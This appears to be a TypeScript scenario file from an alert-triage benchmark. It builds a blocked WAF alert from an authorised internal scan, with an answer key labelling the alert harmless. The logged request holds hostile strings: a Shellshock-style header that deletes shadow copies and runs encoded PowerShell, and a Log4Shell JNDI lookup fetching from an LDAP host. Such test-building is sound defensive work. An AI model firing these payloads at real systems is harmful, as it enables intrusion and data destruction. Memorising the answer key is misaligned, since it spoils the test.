// Payloads that read like an invasion, sent by the company's own scanner in a run that people had ordered.
import { alert, harmless, situation, ticket } from '../../shorthand.ts'

export const loudPayloadsOfTheOwnScanner = situation(
  'loud-payloads-of-the-own-scanner',
  'poisoning',
  'Loud attack strings against the shop',
  (setting) => {
    const scanner = setting.machine('scan-vm-01')
    const server = setting.machine('srv-web-01')
    const oskar = setting.person('oskar.falk')
    const at = setting.ago({ hours: 6, minutes: 34 })
    const title = 'Web application attack: command execution'
    const day = setting.iso(at).slice(0, 10)
    return {
      alerts: [
        alert(
          setting,
          at,
          'nginx_app_protect',
          title,
          `<131>${setting.iso(at)} ${server.host} ASM: attack_type="Command Execution,Server Side Code Injection,Path Traversal",blocking_exception_reason="N/A",date_time="${setting.iso(at).slice(0, 19).replace('T', ' ')}",dest_port="443",ip_client="${scanner.ip}",is_truncated="false",method="POST",policy_name="shop_strict",protocol="HTTPS",request_status="blocked",response_code="0",severity="Critical",sig_cves="CVE-2021-44228",sig_ids="200003437,200004474,200104768",sig_names="Java code injection - jndi, /bin/bash execution attempt",src_port="41822",sub_violations="N/A",support_id="1181640207792210023",threat_campaign_names="N/A",unit_hostname="${server.dnsName}",uri="/cart/upload?name=mimikatz.exe&note=ALL_YOUR_FILES_ARE_ENCRYPTED",violation_rating="5",vs_name="7-shop.havskoginstruments.com:1-/",x_forwarded_for_header_value="N/A",outcome="REJECTED",outcome_reason="SECURITY_WAF_VIOLATION",violations="Attack signature detected",request="POST /cart/upload HTTP/1.1\\r\\nHost: shop.havskoginstruments.com\\r\\nUser-Agent: () { :; }; /bin/bash -c 'vssadmin delete shadows; powershell -enc AAAA'\\r\\nX-Api: \${jndi:ldap://${scanner.ip}:1389/ransomware}\\r\\n\\r\\n",alert_title="${title}"`,
        ),
      ],
      facts: {
        investigations: [
          ticket(
            setting,
            title,
            at,
            'SECURITY_TEST',
            [{ machine: scanner }, { machine: server }],
            `Ordered scan of the shop by our own scanner ${scanner.host} (${scanner.ip}) against ${server.host} on ${day}, started by Oskar after the release. All requests were refused. The strings are those of the scanner's templates.`,
            { assignee: oskar, tags: ['scan'] },
          ),
        ],
      },
      expected: harmless,
      because:
        'The sender is the company’s own scanner, and the ticket about these very alerts names scanner, server and day of the ordered run. The strings are loud, and all of them were refused.',
    }
  },
)
